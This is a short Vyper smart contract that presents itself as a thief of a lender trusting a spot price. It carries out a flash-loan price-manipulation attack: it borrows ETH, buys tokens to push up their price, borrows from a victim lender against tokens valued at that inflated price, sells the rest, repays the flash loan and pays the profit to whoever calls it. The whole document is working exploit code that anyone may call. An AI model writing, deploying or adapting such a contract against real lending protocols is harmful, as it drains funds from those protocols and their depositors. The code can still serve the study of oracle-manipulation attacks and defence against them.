# pragma version 0.4.3
"""
@title Thief of a lender that trusts the moment
@license MIT
@notice With a flash loan lifts a price, borrows at it, lets it fall, and pays back: one transaction, no money of its own.
"""

from ethereum.ercs import IERC20


interface Flash:
    def borrow(amount: uint256): nonpayable


interface Market:
    def buy() -> uint256: payable
    def sell(tokens: uint256) -> uint256: nonpayable


interface Lender:
    def borrow(tokens: uint256) -> uint256: nonpayable


# Who lends for a moment, and where the price of which token is made.
flash: immutable(Flash)
market: immutable(Market)
token: immutable(IERC20)

# Who believes the price, and how many tokens we leave behind: for the attack under way.
lender: Lender
left: uint256


@deploy
def __init__(flash_lender: address, price_market: address, traded: address):
    """
    @notice Name the three contracts that serve the attack.
    @param flash_lender Lends without security for one transaction.
    @param price_market Where the token is traded.
    @param traded The token.
    """
    flash = Flash(flash_lender)
    market = Market(price_market)
    token = IERC20(traded)


@external
def rob(victim: address, loan: uint256, tokens: uint256):
    """
    @notice Carry out the attack and pay what it yields to the caller. Anybody may call.
    @param victim The lender to rob.
    @param loan Wei to borrow for a moment.
    @param tokens Units of the token to leave with the lender.
    """
    self.lender = Lender(victim)
    self.left = tokens
    extcall flash.borrow(loan)
    raw_call(msg.sender, b"", value=self.balance)


@external
@payable
def on_loan(amount: uint256):
    """
    @notice What we do with the flash loan. Only the flash lender may call.
    @param amount Wei received.
    """
    assert msg.sender == flash.address, "only the flash lender"
    bought: uint256 = extcall market.buy(value=amount)
    extcall token.approve(self.lender.address, self.left)
    extcall self.lender.borrow(self.left)
    extcall token.approve(market.address, bought - self.left)
    extcall market.sell(bought - self.left)
    raw_call(flash.address, b"", value=amount)


@external
@payable
def __default__():
    """
    @notice The lender and the market pay here.
    """
    pass
